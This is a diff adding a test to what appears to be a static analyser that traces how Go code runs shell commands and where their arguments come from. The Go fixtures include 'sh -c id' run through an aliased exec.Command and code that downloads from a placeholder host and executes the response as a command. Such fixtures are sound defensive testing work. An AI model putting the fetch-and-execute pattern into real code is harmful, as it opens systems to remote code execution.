@@ -243,6 +243,13 @@ test('effects have the roles that a command is given where it is run, not where 
   assert.deepEqual(sources(go(body, NET), 'stdin'), ['network a.invalid:1'])
 })
 
+test('effects are found behind variables and fields that are given functions of the library', () => {
+  const variable = `var command = exec.Command\nfunc F() { command("sh", "-c", "id").Run() }`
+  assert.deepEqual(values(go(variable), 'argument'), ['-c', 'id'])
+  const field = `type t struct{ get func(string) (*http.Response, error) }\nfunc F() { x := t{get: http.Get}; r, _ := x.get("http://a.invalid/z"); b, _ := io.ReadAll(r.Body); exec.Command(string(b)) }`
+  assert.deepEqual(sources(go(field, NET), 'command'), ['network http://a.invalid/z'])
+})
+
 test('effects follow what a context holds, and no context by itself', () => {
   const body = `type k struct{}\nfunc F() { run(context.WithValue(context.Background(), k{}, os.Getenv("A"))) }\nfunc run(c context.Context) { exec.CommandContext(c, c.Value(k{}).(string)) }\nfunc G(c context.Context) { exec.CommandContext(c, "id") }`
   assert.deepEqual(sources(go(body, [...NET, 'context']), 'command'), ['env A'])
